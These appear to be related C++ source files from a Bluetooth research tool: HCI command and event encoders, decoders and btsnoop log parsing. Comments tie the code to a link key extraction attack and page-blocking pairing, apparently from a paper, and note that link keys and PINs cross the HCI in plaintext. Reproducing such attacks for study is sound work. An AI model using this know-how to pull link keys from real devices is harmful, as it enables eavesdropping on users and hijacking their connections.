HciPacket RejectConnectionRequestCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  w.u8(static_cast<std::uint8_t>(reason));
  return make_command(op::kRejectConnectionRequest, w.data());
}

std::optional<RejectConnectionRequestCmd> RejectConnectionRequestCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto reason = r.u8();
  if (!addr || !reason) return std::nullopt;
  return RejectConnectionRequestCmd{*addr, static_cast<Status>(*reason)};
}

HciPacket LinkKeyRequestReplyCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  // The link key travels least-significant byte first, matching the byte
  // order the paper's Fig. 11 shows ("in big-endian" once reversed).
  for (std::size_t i = link_key.size(); i-- > 0;) w.u8(link_key[i]);
  return make_command(op::kLinkKeyRequestReply, w.data());
}

std::optional<LinkKeyRequestReplyCmd> LinkKeyRequestReplyCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto key_wire = r.array<16>();
  if (!addr || !key_wire) return std::nullopt;
  LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = *addr;
  for (std::size_t i = 0; i < 16; ++i) cmd.link_key[i] = (*key_wire)[15 - i];
  return cmd;
}

HciPacket LinkKeyRequestNegativeReplyCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  return make_command(op::kLinkKeyRequestNegativeReply, w.data());
}

std::optional<LinkKeyRequestNegativeReplyCmd> LinkKeyRequestNegativeReplyCmd::decode(
    BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  if (!addr) return std::nullopt;
  return LinkKeyRequestNegativeReplyCmd{*addr};
}

HciPacket PinCodeRequestReplyCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  const std::size_t n = std::min<std::size_t>(pin.size(), 16);
  w.u8(static_cast<std::uint8_t>(n));
  for (std::size_t i = 0; i < 16; ++i)
    w.u8(i < n ? static_cast<std::uint8_t>(pin[i]) : 0);
  return make_command(op::kPinCodeRequestReply, w.data());
}

std::optional<PinCodeRequestReplyCmd> PinCodeRequestReplyCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto len = r.u8();
  auto pin_bytes = r.array<16>();
  if (!addr || !len || !pin_bytes || *len == 0 || *len > 16) return std::nullopt;
  PinCodeRequestReplyCmd cmd;
  cmd.bdaddr = *addr;
  cmd.pin.assign(pin_bytes->begin(), pin_bytes->begin() + *len);
  return cmd;
}

HciPacket PinCodeRequestNegativeReplyCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  return make_command(op::kPinCodeRequestNegativeReply, w.data());
}

std::optional<PinCodeRequestNegativeReplyCmd> PinCodeRequestNegativeReplyCmd::decode(
    BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  if (!addr) return std::nullopt;
  return PinCodeRequestNegativeReplyCmd{*addr};
}

HciPacket AuthenticationRequestedCmd::encode() const {
  ByteWriter w;
  w.u16(handle);
  return make_command(op::kAuthenticationRequested, w.data());
}

std::optional<AuthenticationRequestedCmd> AuthenticationRequestedCmd::decode(BytesView params) {
  ByteReader r(params);
  auto h = r.u16();
  if (!h) return std::nullopt;
  return AuthenticationRequestedCmd{*h};
}

HciPacket SetConnectionEncryptionCmd::encode() const {
  ByteWriter w;
  w.u16(handle).u8(encryption_enable);
  return make_command(op::kSetConnectionEncryption, w.data());
}

std::optional<SetConnectionEncryptionCmd> SetConnectionEncryptionCmd::decode(BytesView params) {
  ByteReader r(params);
  auto h = r.u16();
  auto enable = r.u8();
  if (!h || !enable) return std::nullopt;
  return SetConnectionEncryptionCmd{*h, *enable};
}

HciPacket RemoteNameRequestCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  w.u8(page_scan_repetition_mode).u8(reserved).u16(clock_offset);
  return make_command(op::kRemoteNameRequest, w.data());
}

std::optional<RemoteNameRequestCmd> RemoteNameRequestCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto psrm = r.u8();
  auto rsv = r.u8();
  auto clk = r.u16();
  if (!addr || !psrm || !rsv || !clk) return std::nullopt;
  return RemoteNameRequestCmd{*addr, *psrm, *rsv, *clk};
}

HciPacket IoCapabilityRequestReplyCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  w.u8(static_cast<std::uint8_t>(io_capability)).u8(oob_data_present).u8(
      authentication_requirements);
  return make_command(op::kIoCapabilityRequestReply, w.data());
}

std::optional<IoCapabilityRequestReplyCmd> IoCapabilityRequestReplyCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto io = r.u8();
  auto oob = r.u8();
  auto auth = r.u8();
  if (!addr || !io || !oob || !auth || *io > 0x03) return std::nullopt;
  return IoCapabilityRequestReplyCmd{*addr, static_cast<IoCapability>(*io), *oob, *auth};
}

HciPacket UserConfirmationRequestReplyCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  return make_command(op::kUserConfirmationRequestReply, w.data());
}

std::optional<UserConfirmationRequestReplyCmd> UserConfirmationRequestReplyCmd::decode(
    BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  if (!addr) return std::nullopt;
  return UserConfirmationRequestReplyCmd{*addr};
}

HciPacket UserConfirmationRequestNegativeReplyCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  return make_command(op::kUserConfirmationRequestNegativeReply, w.data());
}

std::optional<UserConfirmationRequestNegativeReplyCmd>
UserConfirmationRequestNegativeReplyCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  if (!addr) return std::nullopt;
  return UserConfirmationRequestNegativeReplyCmd{*addr};
}

HciPacket ResetCmd::encode() const { return make_command(op::kReset, {}); }

HciPacket WriteScanEnableCmd::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(scan_enable));
  return make_command(op::kWriteScanEnable, w.data());
}

std::optional<WriteScanEnableCmd> WriteScanEnableCmd::decode(BytesView params) {
  ByteReader r(params);
  auto v = r.u8();
  if (!v || *v > 0x03) return std::nullopt;
  return WriteScanEnableCmd{static_cast<ScanEnable>(*v)};
}

HciPacket WriteClassOfDeviceCmd::encode() const {
  ByteWriter w;
  class_of_device.to_wire(w);
  return make_command(op::kWriteClassOfDevice, w.data());
}

std::optional<WriteClassOfDeviceCmd> WriteClassOfDeviceCmd::decode(BytesView params) {
  ByteReader r(params);
  auto cod = ClassOfDevice::from_wire(r);
  if (!cod) return std::nullopt;
  return WriteClassOfDeviceCmd{*cod};
}

HciPacket WriteLocalNameCmd::encode() const {
  ByteWriter w;
  Bytes padded(248, 0);
  const std::size_t n = std::min<std::size_t>(name.size(), 247);
  std::copy_n(name.begin(), n, padded.begin());
  w.raw(padded);
  return make_command(op::kWriteLocalName, w.data());
}

std::optional<WriteLocalNameCmd> WriteLocalNameCmd::decode(BytesView params) {
  if (params.size() != 248) return std::nullopt;
  WriteLocalNameCmd cmd;
  for (std::uint8_t b : params) {
    if (b == 0) break;
    cmd.name.push_back(static_cast<char>(b));
  }
  return cmd;
}

HciPacket WriteSimplePairingModeCmd::encode() const {
  ByteWriter w;
  w.u8(enabled);
  return make_command(op::kWriteSimplePairingMode, w.data());
}

std::optional<WriteSimplePairingModeCmd> WriteSimplePairingModeCmd::decode(BytesView params) {
  ByteReader r(params);
  auto v = r.u8();
  if (!v || *v > 1) return std::nullopt;
  return WriteSimplePairingModeCmd{*v};
}

HciPacket ReadBdAddrCmd::encode() const { return make_command(op::kReadBdAddr, {}); }

}  // namespace blap::hci
