#include "hci/snoop.hpp"

#include <cstdio>
#include <fstream>

#include "common/log.hpp"
#include "hci/events.hpp"

namespace blap::hci {

namespace {
constexpr std::array<std::uint8_t, 8> kMagic = {'b', 't', 's', 'n', 'o', 'o', 'p', '\0'};
}

void SnoopLog::append(SnoopRecord record) {
  if (record.original_length == 0)
    record.original_length = static_cast<std::uint32_t>(record.packet.to_wire().size());
  if (filter_) {
    auto filtered = filter_(std::move(record));
    if (!filtered) return;
    records_.push_back(std::move(*filtered));
    return;
  }
  records_.push_back(std::move(record));
}

Bytes SnoopLog::serialize() const {
  ByteWriter w;
  w.raw(kMagic);
  w.u32be(1);                 // version
  w.u32be(kDatalinkHciUart);  // datalink: H4 with type byte
  for (const auto& rec : records_) {
    const Bytes wire = rec.packet.to_wire();
    w.u32be(rec.original_length);
    w.u32be(static_cast<std::uint32_t>(wire.size()));
    w.u32be(rec.flags());
    w.u32be(0);  // cumulative drops
    w.u64be(rec.timestamp_us + kSnoopEpochOffsetUs);
    w.raw(wire);
  }
  return std::move(w).take();
}

std::optional<SnoopLog> SnoopLog::parse(BytesView data) {
  ByteReader r(data);
  auto magic = r.array<8>();
  auto version = r.u32be();
  auto datalink = r.u32be();
  if (!magic || *magic != kMagic || !version || *version != 1 || !datalink) return std::nullopt;

  SnoopLog log;
  for (;;) {
    if (r.remaining() < 24) break;  // no complete record header left
    auto orig_len = r.u32be();
    auto incl_len = r.u32be();
    auto flags = r.u32be();
    auto drops = r.u32be();
    auto timestamp = r.u64be();
    if (!orig_len || !incl_len || !flags || !drops || !timestamp) break;
    auto wire = r.bytes(*incl_len);
    if (!wire) break;  // truncated final record — drop it
    auto packet = HciPacket::from_wire(*wire);
    if (!packet) continue;  // unknown packet type byte — skip record
    SnoopRecord rec;
    rec.timestamp_us =
        (*timestamp >= kSnoopEpochOffsetUs) ? *timestamp - kSnoopEpochOffsetUs : 0;
    rec.direction =
        (*flags & 1) ? Direction::kControllerToHost : Direction::kHostToController;
    rec.packet = std::move(*packet);
    rec.original_length = *orig_len;
    log.records_.push_back(std::move(rec));
  }
  return log;
}

bool SnoopLog::save(const std::string& path) const {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) return false;
  const Bytes data = serialize();
  out.write(reinterpret_cast<const char*>(data.data()),
            static_cast<std::streamsize>(data.size()));
  return static_cast<bool>(out);
}

std::optional<SnoopLog> SnoopLog::load(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return std::nullopt;
  Bytes data((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  return parse(data);
}

std::string SnoopLog::format_table() const {
  std::string out =
      "Fra  Type     Opcode Command                                    Event"
      "                              Handle  Status\n";
  std::size_t frame = 0;
  for (const auto& rec : records_) {
    ++frame;
    std::string type;
    std::string command;
    std::string event;
    std::string handle;
    std::string status;
    char opcode_hex[8] = "";
    switch (rec.packet.type) {
      case PacketType::kCommand: {
        type = "Command";
        if (auto op_value = rec.packet.command_opcode()) {
          std::snprintf(opcode_hex, sizeof(opcode_hex), "0x%04x", *op_value);
          command = opcode_name(*op_value);
        }
        if (auto params = rec.packet.command_params()) {
          if (rec.packet.command_opcode() == op::kAuthenticationRequested && params->size() >= 2)
            handle = strfmt("0x%04x", (*params)[0] | ((*params)[1] << 8));
        }
        break;
      }
      case PacketType::kEvent: {
        type = "Event";
        if (auto code = rec.packet.event_code()) {
          event = event_name(*code);
          if (auto params = rec.packet.event_params()) {
            if (*code == ev::kCommandStatus) {
              if (auto evt = CommandStatusEvt::decode(*params)) {
                command = opcode_name(evt->command_opcode);
                status = to_string(evt->status);
                event = "HCI_Command_Status";
              }
            } else if (*code == ev::kConnectionComplete) {
              if (auto evt = ConnectionCompleteEvt::decode(*params)) {
                handle = strfmt("0x%04x", evt->handle);
                status = to_string(evt->status);
              }
            } else if (*code == ev::kAuthenticationComplete) {
              if (auto evt = AuthenticationCompleteEvt::decode(*params)) {
                handle = strfmt("0x%04x", evt->handle);
                status = to_string(evt->status);
              }
            } else if (*code == ev::kCommandComplete) {
              if (auto evt = CommandCompleteEvt::decode(*params)) {
                command = opcode_name(evt->command_opcode);
                if (!evt->return_parameters.empty())
                  status = to_string(static_cast<Status>(evt->return_parameters[0]));
              }
            }
          }
        }
        break;
      }
      case PacketType::kAclData: {
        type = "ACL";
        if (auto h = rec.packet.acl_handle()) handle = strfmt("0x%04x", *h);
        break;
      }
      case PacketType::kScoData: type = "SCO"; break;
    }
    out += strfmt("%-4zu %-8s %-6s %-42s %-34s %-7s %s\n", frame, type.c_str(), opcode_hex,
                  command.c_str(), event.c_str(), handle.c_str(), status.c_str());
  }
  return out;
}

void SnoopLog::save_state(state::StateWriter& w) const {
  w.boolean(static_cast<bool>(filter_));
  w.u64(records_.size());
  for (const SnoopRecord& record : records_) {
    w.u64(record.timestamp_us);
    w.u8(static_cast<std::uint8_t>(record.direction));
    w.u8(static_cast<std::uint8_t>(record.packet.type));
    w.bytes(record.packet.payload);
    w.u32(record.original_length);
  }
}

void SnoopLog::load_state(state::StateReader& r, state::RestoreMode mode) {
  const bool had_filter = r.boolean();
  if (mode == state::RestoreMode::kRewind && !had_filter) filter_ = nullptr;
  records_.clear();
  const std::uint64_t count = r.u64();
  for (std::uint64_t i = 0; i < count && r.ok(); ++i) {
    SnoopRecord record;
    record.timestamp_us = r.u64();
    record.direction = static_cast<Direction>(r.u8());
    record.packet.type = static_cast<PacketType>(r.u8());
    record.packet.payload = r.bytes();
    record.original_length = r.u32();
    records_.push_back(std::move(record));
  }
}

}  // namespace blap::hci
