#include "hci/snoop.hpp"

#include <algorithm>
#include <cstdio>
#include <fstream>

#include "common/log.hpp"
#include "hci/events.hpp"

namespace blap::hci {

namespace {

constexpr std::array<std::uint8_t, 8> kMagic = {'b', 't', 's', 'n', 'o', 'o', 'p', '\0'};

std::uint32_t read_u32be(BytesView data, std::size_t at) {
  return (static_cast<std::uint32_t>(data[at]) << 24) |
         (static_cast<std::uint32_t>(data[at + 1]) << 16) |
         (static_cast<std::uint32_t>(data[at + 2]) << 8) |
         static_cast<std::uint32_t>(data[at + 3]);
}

std::uint64_t read_u64be(BytesView data, std::size_t at) {
  return (static_cast<std::uint64_t>(read_u32be(data, at)) << 32) |
         read_u32be(data, at + 4);
}

}  // namespace

const char* to_string(SnoopError error) {
  switch (error) {
    case SnoopError::kNone: return "ok";
    case SnoopError::kTruncatedFileHeader: return "truncated file header";
    case SnoopError::kBadMagic: return "bad magic";
    case SnoopError::kBadVersion: return "unsupported version";
    case SnoopError::kBadDatalink: return "unsupported datalink";
    case SnoopError::kLengthMismatch: return "incl_len exceeds orig_len";
    case SnoopError::kOversizedRecord: return "implausible record length";
    case SnoopError::kTruncatedRecord: return "truncated record";
  }
  return "?";
}

std::string SnoopFault::describe() const {
  return strfmt("%s at byte %zu", to_string(error), byte_offset);
}

std::optional<SnoopCursor> SnoopCursor::open(BytesView data, SnoopFault* fault) {
  auto fail = [&](SnoopError error, std::size_t offset) -> std::optional<SnoopCursor> {
    if (fault != nullptr) *fault = SnoopFault{error, offset};
    return std::nullopt;
  };
  if (data.size() < 16) return fail(SnoopError::kTruncatedFileHeader, data.size());
  if (!std::equal(kMagic.begin(), kMagic.end(), data.begin()))
    return fail(SnoopError::kBadMagic, 0);
  if (read_u32be(data, 8) != 1) return fail(SnoopError::kBadVersion, 8);
  if (read_u32be(data, 12) != kDatalinkHciUart) return fail(SnoopError::kBadDatalink, 12);
  if (fault != nullptr) *fault = SnoopFault{};
  return SnoopCursor(data);
}

std::optional<SnoopRecordView> SnoopCursor::next() {
  if (!fault_.ok()) return std::nullopt;  // faults are sticky
  if (pos_ == data_.size()) return std::nullopt;
  const std::size_t at = pos_;
  if (data_.size() - at < 24) {
    fault_ = SnoopFault{SnoopError::kTruncatedRecord, at};
    return std::nullopt;
  }
  const std::uint32_t orig_len = read_u32be(data_, at);
  const std::uint32_t incl_len = read_u32be(data_, at + 4);
  if (incl_len > orig_len) {
    fault_ = SnoopFault{SnoopError::kLengthMismatch, at};
    return std::nullopt;
  }
  if (incl_len > kMaxSnoopRecordBytes) {
    fault_ = SnoopFault{SnoopError::kOversizedRecord, at};
    return std::nullopt;
  }
  if (incl_len > data_.size() - at - 24) {
    fault_ = SnoopFault{SnoopError::kTruncatedRecord, at};
    return std::nullopt;
  }
  SnoopRecordView view;
  view.index = index_++;
  view.byte_offset = at;
  view.orig_len = orig_len;
  view.flags = read_u32be(data_, at + 8);
  const std::uint64_t raw_ts = read_u64be(data_, at + 16);
  view.timestamp_us = raw_ts >= kSnoopEpochOffsetUs ? raw_ts - kSnoopEpochOffsetUs : 0;
  view.direction =
      (view.flags & 1) ? Direction::kControllerToHost : Direction::kHostToController;
  view.wire = data_.subspan(at + 24, incl_len);
  pos_ = at + 24 + incl_len;
  return view;
}

void SnoopLog::append(SnoopRecord record) {
  if (record.original_length == 0)
    record.original_length = static_cast<std::uint32_t>(record.packet.to_wire().size());
  if (filter_) {
    auto filtered = filter_(std::move(record));
    if (!filtered) return;
    records_.push_back(std::move(*filtered));
    return;
  }
  records_.push_back(std::move(record));
}

Bytes SnoopLog::serialize() const {
  ByteWriter w;
  w.raw(kMagic);
  w.u32be(1);                 // version
  w.u32be(kDatalinkHciUart);  // datalink: H4 with type byte
  for (const auto& rec : records_) {
    const Bytes wire = rec.packet.to_wire();
    w.u32be(rec.original_length);
    w.u32be(static_cast<std::uint32_t>(wire.size()));
    w.u32be(rec.flags());
    w.u32be(0);  // cumulative drops
    w.u64be(rec.timestamp_us + kSnoopEpochOffsetUs);
    w.raw(wire);
  }
  return std::move(w).take();
}

SnoopLog::ParseResult SnoopLog::parse_checked(BytesView data) {
  ParseResult result;
  auto cursor = SnoopCursor::open(data, &result.fault);
  if (!cursor) return result;
  SnoopLog log;
  while (auto view = cursor->next()) {
    auto packet = HciPacket::from_wire(view->wire);
    if (!packet) continue;  // unknown packet type byte — skip record
    SnoopRecord rec;
    rec.timestamp_us = view->timestamp_us;
    rec.direction = view->direction;
    rec.packet = std::move(*packet);
    rec.original_length = view->orig_len;
    log.records_.push_back(std::move(rec));
  }
  result.fault = cursor->fault();
  result.log = std::move(log);
  return result;
}

std::optional<SnoopLog> SnoopLog::parse(BytesView data) {
  return parse_checked(data).log;
}

bool SnoopLog::save(const std::string& path) const {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) return false;
  const Bytes data = serialize();
  out.write(reinterpret_cast<const char*>(data.data()),
            static_cast<std::streamsize>(data.size()));
  return static_cast<bool>(out);
}

std::optional<SnoopLog> SnoopLog::load(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return std::nullopt;
  Bytes data((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  return parse(data);
}

std::string SnoopLog::format_table() const {
  std::string out =
      "Fra  Type     Opcode Command                                    Event"
      "                              Handle  Status\n";
  std::size_t frame = 0;
  for (const auto& rec : records_) {
    ++frame;
    std::string type;
    std::string command;
    std::string event;
    std::string handle;
    std::string status;
    char opcode_hex[8] = "";
    switch (rec.packet.type) {
      case PacketType::kCommand: {
        type = "Command";
        if (auto op_value = rec.packet.command_opcode()) {
          std::snprintf(opcode_hex, sizeof(opcode_hex), "0x%04x", *op_value);
          command = opcode_name(*op_value);
        }
        if (auto params = rec.packet.command_params()) {
          if (rec.packet.command_opcode() == op::kAuthenticationRequested && params->size() >= 2)
            handle = strfmt("0x%04x", (*params)[0] | ((*params)[1] << 8));
        }
        break;
      }
      case PacketType::kEvent: {
        type = "Event";
        if (auto code = rec.packet.event_code()) {
          event = event_name(*code);
          if (auto params = rec.packet.event_params()) {
            if (*code == ev::kCommandStatus) {
              if (auto evt = CommandStatusEvt::decode(*params)) {
                command = opcode_name(evt->command_opcode);
                status = to_string(evt->status);
                event = "HCI_Command_Status";
              }
            } else if (*code == ev::kConnectionComplete) {
              if (auto evt = ConnectionCompleteEvt::decode(*params)) {
                handle = strfmt("0x%04x", evt->handle);
                status = to_string(evt->status);
              }
            } else if (*code == ev::kAuthenticationComplete) {
              if (auto evt = AuthenticationCompleteEvt::decode(*params)) {
                handle = strfmt("0x%04x", evt->handle);
                status = to_string(evt->status);
              }
            } else if (*code == ev::kCommandComplete) {
              if (auto evt = CommandCompleteEvt::decode(*params)) {
                command = opcode_name(evt->command_opcode);
                if (!evt->return_parameters.empty())
                  status = to_string(static_cast<Status>(evt->return_parameters[0]));
              }
            }
          }
        }
        break;
      }
      case PacketType::kAclData: {
        type = "ACL";
        if (auto h = rec.packet.acl_handle()) handle = strfmt("0x%04x", *h);
        break;
      }
      case PacketType::kScoData: type = "SCO"; break;
    }
    out += strfmt("%-4zu %-8s %-6s %-42s %-34s %-7s %s\n", frame, type.c_str(), opcode_hex,
                  command.c_str(), event.c_str(), handle.c_str(), status.c_str());
  }
  return out;
}

void SnoopLog::save_state(state::StateWriter& w) const {
  w.boolean(static_cast<bool>(filter_));
  w.u64(records_.size());
  for (const SnoopRecord& record : records_) {
    w.u64(record.timestamp_us);
    w.u8(static_cast<std::uint8_t>(record.direction));
    w.u8(static_cast<std::uint8_t>(record.packet.type));
    w.bytes(record.packet.payload);
    w.u32(record.original_length);
  }
}

void SnoopLog::load_state(state::StateReader& r, state::RestoreMode mode) {
  const bool had_filter = r.boolean();
  if (mode == state::RestoreMode::kRewind && !had_filter) filter_ = nullptr;
  records_.clear();
  const std::uint64_t count = r.u64();
  for (std::uint64_t i = 0; i < count && r.ok(); ++i) {
    SnoopRecord record;
    record.timestamp_us = r.u64();
    record.direction = static_cast<Direction>(r.u8());
    record.packet.type = static_cast<PacketType>(r.u8());
    record.packet.payload = r.bytes();
    record.original_length = r.u32();
    records_.push_back(std::move(record));
  }
}

}  // namespace blap::hci
