// commands.hpp — typed HCI command builders and parsers.
//
// Each command struct mirrors the parameter layout of the Bluetooth Core
// Specification (Vol 4, Part E §7.1/7.3/7.4). encode() produces the on-wire
// HciPacket; decode() parses parameters back (used by the simulated
// controller's dispatcher, the snoop analyzer, and the attack extractors).
#pragma once

#include <optional>
#include <string>

#include "common/bdaddr.hpp"
#include "crypto/keys.hpp"
#include "hci/packets.hpp"

namespace blap::hci {

// --- Link Control (OGF 0x01) -----------------------------------------------

struct InquiryCmd {
  std::uint32_t lap = 0x9E8B33;  // General Inquiry Access Code
  std::uint8_t inquiry_length = 8;  // x 1.28 s
  std::uint8_t num_responses = 0;   // 0 = unlimited

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<InquiryCmd> decode(BytesView params);
};

struct CreateConnectionCmd {
  BdAddr bdaddr;
  std::uint16_t packet_type = 0xCC18;
  std::uint8_t page_scan_repetition_mode = 0x01;
  std::uint8_t reserved = 0x00;
  std::uint16_t clock_offset = 0x0000;
  std::uint8_t allow_role_switch = 0x01;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<CreateConnectionCmd> decode(BytesView params);
};

struct DisconnectCmd {
  ConnectionHandle handle = kInvalidHandle;
  Status reason = Status::kRemoteUserTerminatedConnection;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<DisconnectCmd> decode(BytesView params);
};

struct AcceptConnectionRequestCmd {
  BdAddr bdaddr;
  std::uint8_t role = 0x01;  // remain peripheral

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<AcceptConnectionRequestCmd> decode(BytesView params);
};

struct RejectConnectionRequestCmd {
  BdAddr bdaddr;
  Status reason = Status::kPairingNotAllowed;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<RejectConnectionRequestCmd> decode(BytesView params);
};

/// The key-bearing command at the heart of the link key extraction attack:
/// its parameters are the peer BD_ADDR followed by the 16-byte link key, in
/// plaintext. Wire prefix: 0b 04 16 (opcode LE + length 22).
struct LinkKeyRequestReplyCmd {
  BdAddr bdaddr;
  crypto::LinkKey link_key{};

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<LinkKeyRequestReplyCmd> decode(BytesView params);
};

struct LinkKeyRequestNegativeReplyCmd {
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<LinkKeyRequestNegativeReplyCmd> decode(BytesView params);
};

/// Legacy (pre-SSP) pairing: the host supplies the user's PIN. On the wire:
/// BD_ADDR + PIN length + 16 bytes of zero-padded PIN. The PIN crosses the
/// HCI in plaintext too — legacy pairing never improved on that.
struct PinCodeRequestReplyCmd {
  BdAddr bdaddr;
  std::string pin;  // 1..16 bytes

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<PinCodeRequestReplyCmd> decode(BytesView params);
};

struct PinCodeRequestNegativeReplyCmd {
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<PinCodeRequestNegativeReplyCmd> decode(BytesView params);
};

struct AuthenticationRequestedCmd {
  ConnectionHandle handle = kInvalidHandle;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<AuthenticationRequestedCmd> decode(BytesView params);
};

struct SetConnectionEncryptionCmd {
  ConnectionHandle handle = kInvalidHandle;
  std::uint8_t encryption_enable = 0x01;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<SetConnectionEncryptionCmd> decode(BytesView params);
};

struct RemoteNameRequestCmd {
  BdAddr bdaddr;
  std::uint8_t page_scan_repetition_mode = 0x01;
  std::uint8_t reserved = 0x00;
  std::uint16_t clock_offset = 0x0000;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<RemoteNameRequestCmd> decode(BytesView params);
};

struct IoCapabilityRequestReplyCmd {
  BdAddr bdaddr;
  IoCapability io_capability = IoCapability::kDisplayYesNo;
  std::uint8_t oob_data_present = 0x00;
  std::uint8_t authentication_requirements = 0x03;  // MITM required, dedicated bonding

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<IoCapabilityRequestReplyCmd> decode(BytesView params);
};

struct UserConfirmationRequestReplyCmd {
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<UserConfirmationRequestReplyCmd> decode(BytesView params);
};

struct UserConfirmationRequestNegativeReplyCmd {
  BdAddr bdaddr;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<UserConfirmationRequestNegativeReplyCmd> decode(
      BytesView params);
};

// --- Controller & Baseband (OGF 0x03) ---------------------------------------

struct ResetCmd {
  [[nodiscard]] HciPacket encode() const;
};

struct WriteScanEnableCmd {
  ScanEnable scan_enable = ScanEnable::kInquiryAndPage;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<WriteScanEnableCmd> decode(BytesView params);
};

struct WriteClassOfDeviceCmd {
  ClassOfDevice class_of_device;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<WriteClassOfDeviceCmd> decode(BytesView params);
};

struct WriteLocalNameCmd {
  std::string name;  // up to 248 bytes, zero padded on the wire

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<WriteLocalNameCmd> decode(BytesView params);
};

struct WriteSimplePairingModeCmd {
  std::uint8_t enabled = 0x01;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<WriteSimplePairingModeCmd> decode(BytesView params);
};

// --- Informational (OGF 0x04) -----------------------------------------------

struct ReadBdAddrCmd {
  [[nodiscard]] HciPacket encode() const;
};

}  // namespace blap::hci
