// events.hpp — typed HCI event builders and parsers (controller → host).
//
// The event sequences these produce are exactly what the paper's Fig. 12
// compares: a normal pairing shows Create_Connection → Connection_Complete →
// Authentication_Requested → Link_Key_Request → ..., while a pairing under
// page blocking starts with Connection_Request → Accept_Connection_Request.
#pragma once

#include <optional>
#include <string>

#include "common/bdaddr.hpp"
#include "crypto/keys.hpp"
#include "hci/packets.hpp"

namespace blap::hci {

struct CommandCompleteEvt {
  std::uint8_t num_hci_command_packets = 1;
  std::uint16_t command_opcode = 0;
  Bytes return_parameters;  // first byte is usually a Status

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<CommandCompleteEvt> decode(BytesView params);
};

struct CommandStatusEvt {
  Status status = Status::kSuccess;
  std::uint8_t num_hci_command_packets = 1;
  std::uint16_t command_opcode = 0;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<CommandStatusEvt> decode(BytesView params);
};

struct InquiryResultEvt {
  BdAddr bdaddr;
  std::uint8_t page_scan_repetition_mode = 0x01;
  ClassOfDevice class_of_device;
  std::uint16_t clock_offset = 0;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<InquiryResultEvt> decode(BytesView params);
};

struct InquiryCompleteEvt {
  Status status = Status::kSuccess;

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<InquiryCompleteEvt> decode(BytesView params);
};

/// Extended Inquiry Result (BT 2.1+): one response carrying RSSI and an EIR
/// block whose 0x09 structure holds the responder's complete local name —
/// how a scan list shows "carkit" before any connection exists (and how the
/// paper's victim picks "C" from the picker).
struct ExtendedInquiryResultEvt {
  BdAddr bdaddr;
  std::uint8_t page_scan_repetition_mode = 0x01;
  ClassOfDevice class_of_device;
  std::uint16_t clock_offset = 0;
  std::int8_t rssi = -60;
  std::string name;  // from / into the EIR complete-local-name structure

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<ExtendedInquiryResultEvt> decode(BytesView params);
};

struct ConnectionRequestEvt {
  BdAddr bdaddr;
  ClassOfDevice class_of_device;
  std::uint8_t link_type = 0x01;  // ACL

  [[nodiscard]] HciPacket encode() const;
  [[nodiscard]] static std::optional<ConnectionRequestEvt> decode(BytesView params);
};

struct ConnectionCompleteEvt {
  Status status = Status::kSuccess;
  ConnectionHandle handle = kInvalidHandle;
  BdAddr bdaddr;
  std::uint8_t link_type = 0x01;
  std::uint8_t encryption_enabled = 0x00;

  [[nodiscard]] HciPacket encode() const;
